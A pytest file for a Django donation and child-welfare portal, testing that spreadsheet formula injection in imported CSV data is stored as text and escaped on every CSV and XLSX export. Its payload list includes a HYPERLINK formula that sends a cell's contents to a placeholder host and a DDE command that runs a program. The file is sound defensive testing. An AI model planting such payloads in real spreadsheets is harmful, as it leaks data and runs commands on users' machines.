"""Text that a spreadsheet would run as a formula is kept as text on import and escaped on export.

Imports (donations, children) store `=HYPERLINK(...)`, `+cmd`, `-1+2`, `@SUM` as the text it is;
every export (the children's list, the public donor lists and statement as CSV and XLSX, the
admin's commendation list) writes it with a leading apostrophe, never as a formula.
"""

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from openpyxl import load_workbook

from children.models import Child
from donations.models import DisplayPreference, Donation, Donor
from fund_portal.demo import seed_demo
from fund_portal.models import User

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
_NUMBER = re.compile(r"-?\d+")


def _unsafe_xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    bad = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in "=+-@"):
                    bad.append((sheet.title, cell.coordinate, cell.value))
    return bad


def _unsafe_csv_cells(content: bytes) -> list:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [v for row in rows for v in row if v[:1] in ("=", "+", "-", "@") and not _NUMBER.fullmatch(v)]


def test_donations_keep_formulas_as_text_and_every_export_escapes_them(client):
    seed_demo()
    staff = User.objects.get(username="canbo.huyen")
    today = timezone.localdate()
    lines = ["Ngày nhận,Số tiền,Hình thức,Nhà tài trợ,Quỹ,Mã chứng từ,Ghi chú"]
    for n, text in enumerate(FORMULAS):
        quoted = '"' + text.replace('"', '""') + '"'
        lines.append(
            f"{today:%d/%m/%Y},{(n + 1) * 1_000_000},Tiền mặt,{quoted},qbtte-trieu-son,CT-F{n},{quoted}"
        )
    client.force_login(staff)
    response = client.post(
        "/admin/donations/donation/import/",
        {"file": SimpleUploadedFile("cong-thuc.csv", "\n".join(lines).encode())},
    )
    assert response.status_code == 302, response.content.decode()[-3000:]
    imported = Donation.objects.filter(import_key__startswith="CT-F")
    assert sorted(imported.values_list("message", flat=True)) == sorted(FORMULAS)
    assert set(Donor.objects.filter(name__in=FORMULAS).values_list("name", flat=True)) == set(FORMULAS)
    Donor.objects.filter(name__in=FORMULAS).update(display_preference=DisplayPreference.FULL_NAME)

    query = {"fund": "qbtte-trieu-son", "year": today.year, "month": today.month}
    donors_csv = client.get("/transparency/donors.csv", query).content
    assert "'=HYPERLINK" in donors_csv.decode("utf-8-sig")  # the donors are listed, escaped
    assert _unsafe_csv_cells(donors_csv) == []
    assert _unsafe_csv_cells(client.get("/transparency/statement.csv", query).content) == []
    donors_xlsx = client.get("/transparency/donors.xlsx", query).content
    assert "'@SUM(A1:A9)" in str(list(load_workbook(io.BytesIO(donors_xlsx)).active.values))
    assert _unsafe_xlsx_cells(donors_xlsx) == []
    assert _unsafe_xlsx_cells(client.get("/transparency/statement.xlsx", query).content) == []
    recognition = client.get(
        "/admin/donations/donor/recognition/",
        {"year": today.year, "min_amount": 1, "consecutive_years": 3, "format": "xlsx"},
    )
    assert recognition.status_code == 200 and "spreadsheetml" in recognition["Content-Type"]
    assert "'+cmd" in str(list(load_workbook(io.BytesIO(recognition.content)).active.values))
    assert _unsafe_xlsx_cells(recognition.content) == []


def test_children_keep_formulas_as_text_and_the_export_escapes_them(client):
    seed_demo()
    officer = User.objects.get(username="canbo.danly")
    client.force_login(officer)
    rows = ["Họ và tên,Ngày sinh,Giới tính,Địa chỉ"]
    for n, text in enumerate(FORMULAS):
        quoted = '"' + text.replace('"', '""') + '"'
        rows.append(f"Em Công Thức {n},0{n + 1}/02/2015,Nam,{quoted}")
    response = client.post(
        "/portal/children/import/", {"file": SimpleUploadedFile("tre-em.csv", "\n".join(rows).encode())}
    )
    assert response.status_code == 302, response.content.decode()[-3000:]
    kept = Child.objects.filter(full_name__startswith="Em Công Thức")
    assert sorted(kept.values_list("address", flat=True)) == sorted(FORMULAS)

    export = client.post("/portal/children/export/", {"reason": "Kiểm tra an toàn tệp xuất"})
    assert "spreadsheetml" in export["Content-Type"]
    values = str(list(load_workbook(io.BytesIO(export.content)).active.values))
    assert "'-2+3" in values and "'=HYPERLINK" in values
    assert _unsafe_xlsx_cells(export.content) == []
    # What the export wrote imports again unchanged: the apostrophe is taken off.
    again = client.post("/portal/children/import/", {"file": SimpleUploadedFile("lai.xlsx", export.content)})
    assert again.status_code == 302
    assert sorted(kept.values_list("address", flat=True)) == sorted(FORMULAS)
